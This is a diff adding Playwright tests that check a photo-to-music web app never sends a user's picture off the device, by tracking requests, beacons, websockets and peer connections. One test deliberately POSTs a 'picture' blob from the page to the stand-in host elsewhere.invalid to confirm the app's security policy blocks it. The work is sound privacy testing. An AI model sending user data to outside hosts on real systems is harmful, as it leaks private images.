@@ -1,0 +1,132 @@
+import type { Page, Request } from 'playwright/test';
+import { ARGS, EXECUTABLE } from '../chromium.ts';
+import { expect, test } from './app.ts';
+import {
+  download,
+  finished,
+  lookAt,
+  make,
+  PHOTOGRAPH,
+  preferReader,
+  rate,
+  seen,
+  smallPhotograph,
+} from './steps.ts';
+
+test.use({
+  launchOptions: {
+    executablePath: EXECUTABLE,
+    args: [...ARGS, '--use-fake-device-for-media-stream', '--use-fake-ui-for-media-stream'],
+  },
+  permissions: ['camera'],
+});
+
+/** A picture can't hide in an address this short, nor in a request that has no body. */
+const LONGEST_ADDRESS = 200;
+
+test('no request carries a picture, whatever the user does', async ({ page, context, app }) => {
+  const requests: Request[] = [];
+  const sockets: string[] = [];
+  context.on('request', (request) => requests.push(request));
+  page.on('websocket', (socket) => sockets.push(socket.url()));
+  await context.addInitScript(watchBeacons);
+  await preferReader(page, 'wasm');
+  await page.goto('/');
+
+  await lookAt(page, PHOTOGRAPH);
+  await make(page, 5);
+  await rate(page, 'nobody else reads this');
+  await download(page, 'WAV 24-bit');
+  await download(page, 'MIDI');
+  await page.getByText('More like this').click();
+  for (const more of ['Again', 'Another']) {
+    await page.getByRole('button', { name: more, exact: true }).click();
+    await finished(page);
+  }
+
+  const { buffer } = await smallPhotograph();
+  await hand(page, 'drop', buffer);
+  await seen(page);
+  await hand(page, 'paste', buffer);
+  await seen(page);
+
+  await page.getByRole('button', { name: 'Use the camera' }).click();
+  await page.getByRole('button', { name: 'Take the snapshot' }).click();
+  await expect(page.getByRole('heading', { name: /can’t find a face|can’t tell|looks/ })).toBeVisible();
+
+  const history = page.getByRole('region', { name: 'History' });
+  await history.getByRole('button', { name: 'Play again' }).first().click();
+  await finished(page);
+  await history.getByRole('searchbox', { name: 'Search' }).fill('nobody');
+  await history.getByRole('searchbox', { name: 'Search' }).fill('');
+  await history.getByRole('button', { name: 'Delete', exact: true }).first().click();
+  await page.getByRole('textbox', { name: 'Or just write' }).fill('a slow harp');
+  await page.getByRole('button', { name: 'Write a piece from this' }).click();
+  await make(page, 5);
+  await page.getByRole('button', { name: 'Preferences' }).click();
+  await page.getByText('WebAssembly').click();
+  await page.keyboard.press('Escape');
+  await page.getByRole('button', { name: /中文/ }).click();
+  await expect(page.getByRole('heading', { name: '此刻，你还好吗？' })).toBeVisible();
+
+  const sent = requests.filter((request) => !/^(blob|data):/.test(request.url()));
+  expect(sent.length).toBeGreaterThan(20);
+  for (const request of sent) {
+    const what = `${request.method()} ${request.url()}`;
+    expect(request.method(), what).toMatch(/^(GET|HEAD)$/);
+    expect(request.postDataBuffer(), what).toBeNull();
+    expect(new URL(request.url()).origin, what).toBe(app.url);
+    expect(request.url().length, what).toBeLessThan(LONGEST_ADDRESS);
+  }
+  expect(sockets).toEqual([]);
+  expect(await page.evaluate(() => Reflect.get(window, 'beacons') as string[])).toEqual([]);
+});
+
+test('the page could not send a picture if it wanted to', async ({ page }) => {
+  await page.goto('/');
+  const outcome = await page.evaluate(async () => {
+    try {
+      await fetch('https://elsewhere.invalid/', { method: 'POST', body: new Blob(['picture']) });
+      return 'sent';
+    } catch {
+      return await new Promise<string>((resolve) => {
+        document.addEventListener('securitypolicyviolation', ({ blockedURI, effectiveDirective }) => {
+          if (blockedURI.startsWith('https://elsewhere.invalid')) resolve(effectiveDirective);
+        });
+        fetch('https://elsewhere.invalid/', { method: 'POST' }).catch(() => undefined);
+      });
+    }
+  });
+  expect(outcome).toBe('connect-src');
+});
+
+/** Beacons and peer connections are no requests to Playwright: notes whoever opens one. */
+function watchBeacons(): void {
+  const beacons: string[] = [];
+  Reflect.set(window, 'beacons', beacons);
+  navigator.sendBeacon = (url) => beacons.push(String(url)) > 0;
+  window.RTCPeerConnection = class extends RTCPeerConnection {
+    constructor() {
+      super();
+      beacons.push('peer connection');
+    }
+  };
+}
+
+/** Drops or pastes a file anywhere on the page. */
+async function hand(page: Page, way: 'drop' | 'paste', bytes: Buffer): Promise<void> {
+  await page.evaluate(
+    ({ way, base64 }) => {
+      const data = new DataTransfer();
+      const bytes = Uint8Array.from(atob(base64), (letter) => letter.charCodeAt(0));
+      data.items.add(new File([bytes], 'face.jpg', { type: 'image/jpeg' }));
+      const init = { bubbles: true, cancelable: true };
+      document.body.dispatchEvent(
+        way === 'drop'
+          ? new DragEvent('drop', { ...init, dataTransfer: data })
+          : new ClipboardEvent('paste', { ...init, clipboardData: data }),
+      );
+    },
+    { way, base64: bytes.toString('base64') },
+  );
+}
